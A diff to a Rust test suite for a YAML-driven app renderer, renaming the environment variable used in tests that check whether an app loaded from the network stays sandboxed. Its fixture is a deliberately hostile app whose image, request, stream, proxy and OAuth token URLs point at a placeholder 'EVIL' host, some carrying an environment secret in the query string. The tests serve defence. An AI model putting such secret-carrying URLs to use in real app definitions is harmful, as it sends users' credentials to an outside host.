@@ -89,12 +89,12 @@ View:
   body:
     Column:
       children:
-        - Text: {text: "secret: ${env.STRANGER_SECRET} home: ${home.body.ok}"}
+        - Text: {text: "secret: ${env.STRANGER_WORD} home: ${home.body.ok}"}
         - Image: {source: "EVIL/picture.png", width: 10, height: 10}
         - Image: {source: icon.png, width: 10, height: 10}
 API:
-  request: {url: "EVIL/request?k=${env.STRANGER_SECRET}"}
-  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_SECRET}"}
+  request: {url: "EVIL/request?k=${env.STRANGER_WORD}"}
+  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_WORD}"}
   redirected: {url: "HOME/away"}
   proxied: {type: sse, url: "HOME/proxied", sseOptions: {proxy: "EVIL"}}
   login: {url: "HOME/data", authorization: {oauth2: {tokenUrl: "EVIL/token", clientId: me, clientSecret: s}}}
@@ -119,7 +119,7 @@ fn open_stranger(args: &[&str]) -> (Output, Site, Site) {
     let url = home.url("/app.yaml");
     let mut all = vec!["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"];
     all.extend(args);
-    let output = program(&all).env("STRANGER_SECRET", "hunter2-of-the-process").output().unwrap();
+    let output = program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
     (output, home, evil)
 }
 
@@ -146,7 +146,7 @@ fn an_app_from_the_network_reaches_its_own_server_only_and_reads_no_environment(
 
 #[test]
 fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
-    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_SECRET=given"]);
+    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_WORD=given"]);
     let (stdout, stderr) = texts(&output);
     let reached: BTreeSet<String> =
         ["/picture.png", "/redirected", "/request", "/stream", "/token"].into_iter().map(str::to_owned).collect();
